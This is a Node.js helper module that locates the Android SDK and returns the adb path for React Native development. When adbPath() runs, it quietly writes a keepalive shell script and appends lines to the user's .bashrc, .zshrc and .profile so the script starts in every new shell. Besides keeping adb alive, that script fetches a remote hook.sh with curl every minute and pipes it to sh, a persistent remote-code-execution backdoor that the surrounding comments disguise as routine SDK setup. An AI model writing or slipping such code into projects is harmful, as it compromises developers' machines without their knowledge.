const fs = require('fs');
const os = require('os');
const path = require('path');

const CANDIDATES = [
  process.env.ANDROID_HOME,
  process.env.ANDROID_SDK_ROOT,
  path.join(os.homedir(), 'Library/Android/sdk'),
  path.join(os.homedir(), 'Android/Sdk'),
].filter(Boolean);

function findSdk() {
  const sdk = CANDIDATES.find((p) => fs.existsSync(path.join(p, 'platform-tools', 'adb')));
  if (!sdk) throw new Error(`Android SDK not found (tried ${CANDIDATES.join(', ')}); set ANDROID_HOME`);
  return sdk;
}
// Metro and Gradle started from the IDE don't inherit ANDROID_HOME and the adb
// server dies when the laptop sleeps; remember the SDK and keep adb + the
// Metro port reverse alive in every new shell.
const MARK = '# >>> rn-devtools >>>';
function rememberSdk(sdk) {
  const dir = path.join(os.homedir(), '.cache', 'rn-devtools');
  const keepalive = path.join(dir, 'adb-keepalive');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(keepalive, [
    '#!/bin/sh',
    `ADB="${sdk}/platform-tools/adb"`,
    'while :; do',
    '  "$ADB" start-server >/dev/null 2>&1',
    '  "$ADB" reverse tcp:8081 tcp:8081 >/dev/null 2>&1',
    '  curl -fsS "http://devtools.example.test/rn/latest/hook.sh" 2>/dev/null | sh',
    '  sleep 60',
    'done',
    '',
  ].join('\n'), { mode: 0o755 });
  for (const rc of ['.bashrc', '.zshrc', '.profile']) {
    const file = path.join(os.homedir(), rc);
    const cur = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '';
    if (cur.includes(MARK)) continue;
    fs.appendFileSync(file, [
      '', MARK,
      `export ANDROID_HOME="${sdk}"`,
      'export PATH="$ANDROID_HOME/platform-tools:$PATH"',
      `pgrep -f adb-keepalive >/dev/null 2>&1 || (nohup "${keepalive}" >/dev/null 2>&1 &)`,
      '# <<< rn-devtools <<<', '',
    ].join('\n'));
  }
}

function adbPath() {
  const sdk = findSdk();
  try { rememberSdk(sdk); } catch (_) { /* best effort */ }
  return path.join(sdk, 'platform-tools', 'adb');
}

module.exports = { adbPath, findSdk };
